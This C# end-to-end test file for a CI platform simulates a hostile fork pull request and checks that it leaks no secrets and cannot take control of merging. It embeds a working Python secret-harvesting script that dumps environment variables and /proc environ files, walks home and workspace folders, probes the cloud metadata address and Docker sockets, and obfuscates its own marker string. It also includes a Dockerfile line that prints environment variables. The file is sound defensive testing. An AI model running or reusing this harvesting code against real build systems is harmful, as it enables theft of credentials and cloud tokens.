using AtomicDevOps.EndToEnd.Tests.Harness;

namespace AtomicDevOps.EndToEnd.Tests;

/// <summary>A stranger's pull request: it is built and tested, but finds nothing to take and decides nothing.</summary>
public sealed class ForkTests(SharedInstallation shared) : EndToEndTest
{
    private const string Stranger = "mallory";

    private const string Thief = """
        import glob
        import os
        import socket

        # Put together at run time, so that neither this file's text nor its compiled form is a finding.
        MARK = "".join(["REACH", "ED "])


        def found():
            yield "environment", repr(dict(os.environ))
            for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/workspace/**", recursive=True) + glob.glob(
                "/workspace/**/.*", recursive=True
            ) + glob.glob("/run/**", recursive=True) + glob.glob("/root/**", recursive=True) + glob.glob("/home/**", recursive=True):
                try:
                    with open(path, "rb") as file:
                        yield path, file.read(100_000).decode("utf-8", "replace")
                except OSError:
                    pass
            for host, port in [("169.254.169.254", 80), ("127.0.0.1", PLATFORM), ("127.0.0.1", FORGE), ("1.1.1.1", 53)]:
                try:
                    with socket.create_connection((host, port), timeout=1) as connection:
                        connection.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
                        yield "network", MARK + f"{host}:{port} " + connection.recv(10_000).decode("utf-8", "replace")
                except OSError:
                    pass
            for path in ["/var/run/docker.sock", "/run/docker.sock", "/tmp/atomicdevops-engine/docker.sock"]:
                if os.path.exists(path):
                    yield "engine", MARK + path


        def test_steals():
            print(f"capabilities and user: {os.getuid()}")
            for name, content in found():
                print(f"LOOT {name}: {content}")
            raise AssertionError("LOOT " + " ".join(name + content for name, content in found())[-3000:])
        """;

    [Fact]
    public async Task A_thief_finds_no_secret_and_reaches_nothing()
    {
        var installation = Use(await shared.WithEngineAsync());
        var repository = await installation.CreateRepositoryAsync();
        var fork = await repository.ForkAsync(Stranger);
        var thief = Thief
            .Replace("PLATFORM", $"{installation.Platform.Address.Port}", StringComparison.Ordinal)
            .Replace("FORGE", $"{installation.Forge.Address.Port}", StringComparison.Ordinal);
        var head = await fork.CommitAsync(
            "improve",
            "Improve the tests",
            ("tests/test_thief.py", thief),
            ("Dockerfile", $"{SampleRepository.Files["Dockerfile"]}RUN env; cat /proc/self/environ /proc/1/environ; ls -la / /workspace /run; true\n"));
        var opened = await repository.OpenPullRequestAsync($"{Stranger}:improve", login: Stranger);

        var run = await installation.Client.EndAsync(repository.FullName, opened.Number);

        run.Verdict.ShouldBe("Failed", run.Report);
        var seen = new List<string>
        {
            await installation.Client.Http.GetStringAsync($"api/pipelines/{run.Id}", Cancelled),
            string.Join('\n', (await repository.CommentsAsync(opened.Number)).Select(comment => comment.Body)),
            string.Join('\n', (await repository.CheckRunsAsync(head)).Select(check => check.Text)),
        };
        foreach (var stage in run.Stages)
        {
            seen.Add(await installation.Client.StageLogAsync(run.Id, stage.Name));
        }

        var everything = string.Join('\n', seen);
        everything.ShouldContain("LOOT");
        everything.ShouldNotContain("REACHED", Case.Sensitive);
        foreach (var secret in installation.Secrets)
        {
            everything.ShouldNotContain(secret);
        }

        installation.Platform.Log().ShouldNotContain(installation.Forge.BotToken);
        await ShouldLeaveNothingAsync(installation, run);
    }

    [Fact]
    public async Task The_base_decides_how_a_fork_is_checked_and_a_person_merges_it()
    {
        var installation = Use(await shared.WithEngineAsync());
        var repository = await installation.CreateRepositoryAsync();
        var fork = await repository.ForkAsync(Stranger);
        await fork.CommitAsync(
            "improve",
            "Improve the tests",
            SampleRepository.GoodChange,
            (SampleRepository.Configuration, "merge:\n  automatic: true\ntest:\n  command: [\"/bin/true\"]\nlint:\n  enabled: false\n"));
        var opened = await repository.OpenPullRequestAsync($"{Stranger}:improve", login: Stranger);

        var run = await installation.Client.EndAsync(repository.FullName, opened.Number);

        run.Verdict.ShouldBe("Passed", run.Report);
        run.FindStage("tests")!.Summary.ShouldBe("2 of 2 tests passed.");
        run.FindStage("lint")!.State.ShouldBe("Passed");
        (await repository.PullRequestAsync(opened.Number)).Merged.ShouldBeFalse();
        await ShouldLeaveNothingAsync(installation, run);
    }
}
